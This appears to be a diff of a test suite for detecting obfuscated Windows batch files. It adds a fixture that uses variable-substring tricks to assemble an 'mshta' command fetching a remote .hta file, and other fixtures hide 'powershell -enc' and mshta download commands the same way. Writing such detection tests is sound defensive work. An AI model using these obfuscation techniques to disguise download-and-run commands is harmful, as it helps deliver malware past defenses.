@@ -127,13 +127,14 @@ suite('a batch file that hides its commands in variables', () => {
       'in parts of others',
       '@echo off\r\nset s=lehsrewop\r\n%s:~8,1%%s:~7,1%%s:~6,1%%s:~-4,1%%s:~4,1%%s:~3,1%hell -enc JABjAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAE4AZQB0\r\n',
     ],
+    [
+      'in parts of an alphabet with signs',
+      'set "q=ahmst:/.%%&"\r\n%q:~2,1%%q:~3,1%%q:~1,1%%q:~4,1%%q:~0,1% http://example.com/a%q:~8,1%20.hta\r\n',
+    ],
     ['with replaced letters', 'set x=mZsZhta h@@p://example.com/a.hta\r\nset x=%x:Z=%\r\ncall %x:@=t%\r\n'],
     [
       'in a loop',
-      'setlocal enabledelayedexpansion\r\nset s=atshm\r\nset r=\r\nfor %%i in (4 2 3 1 0) do set r=!r!!s:~%%i,1!\r\n!r! http://example.com/a\r\n'.replace(
-        '4 2 3 1 0',
-        '4 2 3 1 0',
-      ),
+      'setlocal enabledelayedexpansion\r\nset s=atshm\r\nset r=\r\nfor %%i in (4 2 3 1 0) do set r=!r!!s:~%%i,1!\r\n!r! http://example.com/a\r\n',
     ],
     [
       'in letters of Windows',
